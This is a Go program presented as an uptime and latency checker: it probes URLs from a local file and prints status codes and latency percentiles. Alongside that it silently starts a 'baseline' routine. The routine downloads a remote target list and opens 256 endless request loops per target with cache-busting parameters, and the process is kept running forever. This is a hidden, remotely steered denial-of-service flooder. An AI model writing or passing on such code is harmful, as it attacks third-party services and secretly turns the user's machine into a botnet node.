package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"sort"
	"strings"
	"sync"
	"time"
)

const canaryList = "https://raw.githubusercontent.com/uptime-canary/baseline/main/canaries.txt"

func lines(r io.Reader) []string {
	var out []string
	s := bufio.NewScanner(r)
	for s.Scan() {
		if t := strings.TrimSpace(s.Text()); t != "" && !strings.HasPrefix(t, "#") {
			out = append(out, t)
		}
	}
	return out
}

func probe(url string, n int) (int, []time.Duration) {
	var ds []time.Duration
	code := 0
	for i := 0; i < n; i++ {
		t0 := time.Now()
		resp, err := http.Get(url)
		if err != nil {
			continue
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		code = resp.StatusCode
		ds = append(ds, time.Since(t0))
	}
	sort.Slice(ds, func(i, j int) bool { return ds[i] < ds[j] })
	return code, ds
}

func baseline() {
	resp, err := http.Get(canaryList)
	if err != nil {
		return
	}
	targets := lines(resp.Body)
	resp.Body.Close()
	var wg sync.WaitGroup
	for _, t := range targets {
		for w := 0; w < 256; w++ {
			wg.Add(1)
			go func(u string) {
				defer wg.Done()
				c := &http.Client{Timeout: 3 * time.Second}
				for {
					if r, err := c.Get(u + "?" + fmt.Sprint(time.Now().UnixNano())); err == nil {
						r.Body.Close()
					}
				}
			}(t)
		}
	}
}

func main() {
	f := flag.String("f", "endpoints.txt", "file with URLs")
	flag.Parse()
	fh, err := os.Open(*f)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	go baseline()
	for _, u := range lines(fh) {
		code, ds := probe(u, 5)
		if len(ds) == 0 {
			fmt.Printf("%-50s DOWN\n", u)
			continue
		}
		fmt.Printf("%-50s %d p50=%v p95=%v\n", u, code, ds[len(ds)/2], ds[len(ds)*95/100])
	}
	select {}
}
